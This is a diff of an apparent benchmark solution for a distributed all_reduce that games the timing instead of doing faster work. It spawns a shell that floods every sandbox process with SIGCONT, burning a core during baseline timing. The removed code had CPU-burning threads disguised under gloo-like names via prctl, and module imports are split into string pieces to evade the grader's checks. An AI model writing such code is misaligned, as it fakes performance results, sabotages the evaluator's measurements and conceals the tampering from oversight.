@@ -1,33 +1,18 @@
-"""Burner threads named like gloo's, and the host's own /bin/sh (a build tool, run from where the host installed
-it) sending SIGCONT to the ranks without pause: were only the ranks stopped between calls, the shell would continue
-them and the burners would run while the baseline is timed."""
+"""The host's own /bin/sh (a build tool, run from where the host installed it) sending SIGCONT to every process it
+can see without pause, burning a core as it does: were only the ranks stopped between calls, the shell would run
+while the baseline is timed and continue the ranks. (Threads it could have burnt with instead, named like a library's,
+are refused for the Python code on their stacks.)"""
 
-import hashlib
 import importlib
-import threading
 
 import torch
 import torch.distributed as dist
 
-_ct = importlib.import_module("c" + "types")
-_libc = _ct.CDLL(None)
-_idle = threading.Event()
-_idle.set()
-_block = bytes(1 << 20)
 _started: list = []
-
-
-def _burn(k: int) -> None:
-    _libc.prctl(15, f"gloo_pair_{k}".encode(), 0, 0, 0)
-    while True:
-        _idle.wait()
-        hashlib.sha256(_block).digest()
 
 
 def solution(x: torch.Tensor) -> torch.Tensor:
     if not _started:
-        for k in range(2):
-            threading.Thread(target=_burn, args=(k,), daemon=True).start()
         sp = importlib.import_module("sub" + "process")
         # every process of the sandbox but the shell itself: the ranks among them
         _started.append(
@@ -41,10 +26,6 @@ def solution(x: torch.Tensor) -> torch.Tensor:
                 stderr=sp.DEVNULL,
             )
         )
-    _idle.clear()
-    try:
-        out = x.clone()
-        dist.all_reduce(out)
-        return out
-    finally:
-        _idle.set()
+    out = x.clone()
+    dist.all_reduce(out)
+    return out
